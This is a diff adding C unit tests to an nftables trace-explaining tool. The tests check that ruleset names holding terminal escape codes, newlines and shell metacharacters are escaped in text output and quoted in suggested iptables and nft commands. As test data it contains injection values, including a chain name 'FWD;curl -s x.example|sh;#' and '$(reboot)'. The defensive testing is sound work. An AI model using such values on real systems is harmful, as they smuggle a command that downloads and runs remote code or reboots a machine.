@@ -323,6 +323,164 @@ static void test_text_accept_and_deleted_rule(void **state)
 	free(o.text);
 }
 
+/* ---- what the ruleset names can hold (issue 19 item 8) ---- */
+
+#define EVIL_COMMENT "\x1b]0;pwned\x07\x1b[31mred"
+#define EVIL_RULE    "meta mark 0x1 drop comment \"" EVIL_COMMENT "\""
+#define EVIL_CHAIN   "in\nput\x7f"
+#define SHELL_CHAIN  "FWD;curl -s x.example|sh;#"
+#define XT_RULE	     "xt match \"conntrack\" counter packets 0 bytes 0 drop"
+
+static const char *hostile_rule(void *ctx, uint8_t family, const char *table, uint64_t handle,
+				bool *ret_deleted)
+{
+	(void)ctx;
+	(void)table;
+	*ret_deleted = false;
+	if (family == NFPROTO_IPV4 && handle == 11)
+		return XT_RULE;
+	return handle == 9 ? EVIL_RULE : NULL;
+}
+
+static const char *hostile_ifname(void *ctx, uint32_t ifindex)
+{
+	(void)ctx;
+	return ifindex == 4 ? "ev\x1b[2Jil" : NULL;
+}
+
+static const struct resolver hostile = {
+	.rule = hostile_rule,
+	.hook = fake_hook,
+	.ifname = hostile_ifname,
+};
+
+static void render_hostile(void *ctx, const struct timeline *tl, enum timeline_end why)
+{
+	struct out *o = ctx;
+	size_t len;
+	FILE *f;
+
+	(void)why;
+	explain_timeline(tl, &hostile, &ex);
+	f = open_memstream(&o->json, &len);
+	assert_int_equal(format_json_line(f, tl, &ex), 0);
+	fclose(f);
+	f = open_memstream(&o->text, &len);
+	assert_int_equal(format_text(f, tl, &ex), 0);
+	fclose(f);
+}
+
+/* One packet dropped by rule handle in table/chain of family, entered on iif 4. */
+static struct out run_hostile(uint8_t family, const char *table, const char *chain, uint64_t handle)
+{
+	struct out o = {};
+	struct timeline_config cfg = {
+		.own_table = OWN,
+		.own_family = NFPROTO_INET,
+		.max_inflight = 4,
+		.emit = render_hostile,
+		.emit_ctx = &o,
+	};
+	struct timeline_table *t;
+	struct test_pkt in;
+	struct trace_event ev;
+
+	assert_int_equal(timeline_table_new(&cfg, &t), 0);
+	test_ipv4_tcp(&in, "198.51.100.2", 44976, "198.51.100.1", 1222, 0x02);
+	add(t,
+	    test_with_pkt(test_rule(7, OWN, "trace_prerouting", 2, NFT_CONTINUE, NULL), &in, 4, 0));
+	ev = test_with_pkt(test_rule(7, table, chain, handle, NF_DROP, NULL), &in, 4, 0);
+	ev.family = family;
+	add(t, ev);
+	timeline_table_free(t);
+	assert_non_null(o.text);
+	return o;
+}
+
+static void test_text_escapes_control_bytes_from_the_ruleset(void **state)
+{
+	struct out o = run_hostile(NFPROTO_INET, "filter", EVIL_CHAIN, 9);
+	json_t *j = parse(o.json);
+
+	(void)state;
+	/* no byte the terminal would obey: only the renderer's own line ends */
+	for (const char *p = o.text; *p; p++)
+		if ((unsigned char)*p < 0x20 || (unsigned char)*p == 0x7f)
+			assert_int_equal(*p, '\n');
+	assert_non_null(strstr(o.text, "comment \"\\x1b]0;pwned\\x07\\x1b[31mred\""));
+	assert_non_null(strstr(o.text, " iif ev\\x1b[2Jil: drop\n"));
+	/* a newline in a chain name forges no line */
+	assert_non_null(strstr(o.text, "  in\\x0aput\\x7f inet filter in\\x0aput\\x7f\n"));
+	assert_non_null(
+		strstr(o.text, " in inet filter in\\x0aput\\x7f at hook in\\x0aput\\x7f\n"));
+	/* JSON keeps the bytes, escaped by its own rules */
+	assert_string_equal(str(j, "cause.rule"), EVIL_RULE);
+	assert_string_equal(str(j, "cause.chain"), EVIL_CHAIN);
+	assert_string_equal(str(j, "packet.iif"), "ev\x1b[2Jil");
+	json_decref(j);
+	free(o.json);
+	free(o.text);
+}
+
+static void test_text_stream_escapes_c1_controls(void **state)
+{
+	char *buf = NULL;
+	size_t len;
+	FILE *raw = open_memstream(&buf, &len), *esc;
+
+	(void)state;
+	esc = format_text_stream(raw);
+	assert_non_null(esc);
+	/* U+009B (CSI) in UTF-8, then a plain é (0xc3 0xa9) and U+00A0 */
+	fputs("a\xc2\x9b"
+	      "31mb \xc3\xa9 \xc2\xa0",
+	      esc);
+	fputc('\0', esc);
+	fputs("\xc2", esc);
+	fclose(esc);
+	fclose(raw);
+	assert_string_equal(buf, "a\\xc2\\x9b31mb \xc3\xa9 \xc2\xa0\n\xc2");
+	free(buf);
+}
+
+static void test_iptables_hint_quotes_the_chain_for_the_shell(void **state)
+{
+	struct out o = run_hostile(NFPROTO_IPV4, "filter", SHELL_CHAIN, 11);
+	json_t *j = parse(o.json);
+
+	(void)state;
+	assert_non_null(strstr(o.text, "`iptables-nft -t filter -S 'FWD;curl -s x.example|sh;#'`"));
+	assert_null(strstr(o.text, "-S FWD;"));
+	json_decref(j);
+	free(o.json);
+	free(o.text);
+}
+
+static void test_set_hint_command_quotes_names_and_key(void **state)
+{
+	struct explain_hint h = {
+		.evaluated = true,
+		.suggest = true,
+		.family = NFPROTO_INET,
+		.table = "t;reboot",
+		.set = "it's",
+		.key = "\"$(reboot)\" . 22",
+	};
+	char buf[512];
+
+	(void)state;
+	explain_hint_command(&h, buf, sizeof(buf));
+	assert_string_equal(buf,
+			    "nft add element inet 't;reboot' 'it'\\''s' '{ \"$(reboot)\" . 22 }'");
+	/* plain names and keys read as before */
+	h.table = "filter";
+	snprintf(h.set, sizeof(h.set), "allow_in");
+	snprintf(h.key, sizeof(h.key), "203.0.113.10 . tcp . 22");
+	explain_hint_command(&h, buf, sizeof(buf));
+	assert_string_equal(buf,
+			    "nft add element inet filter allow_in { 203.0.113.10 . tcp . 22 }");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -331,6 +489,10 @@ int main(void)
 		cmocka_unit_test(test_json_incomplete_when_start_lost),
 		cmocka_unit_test(test_text_names_rules_rewrite_and_cause),
 		cmocka_unit_test(test_text_accept_and_deleted_rule),
+		cmocka_unit_test(test_text_escapes_control_bytes_from_the_ruleset),
+		cmocka_unit_test(test_text_stream_escapes_c1_controls),
+		cmocka_unit_test(test_iptables_hint_quotes_the_chain_for_the_shell),
+		cmocka_unit_test(test_set_hint_command_quotes_names_and_key),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
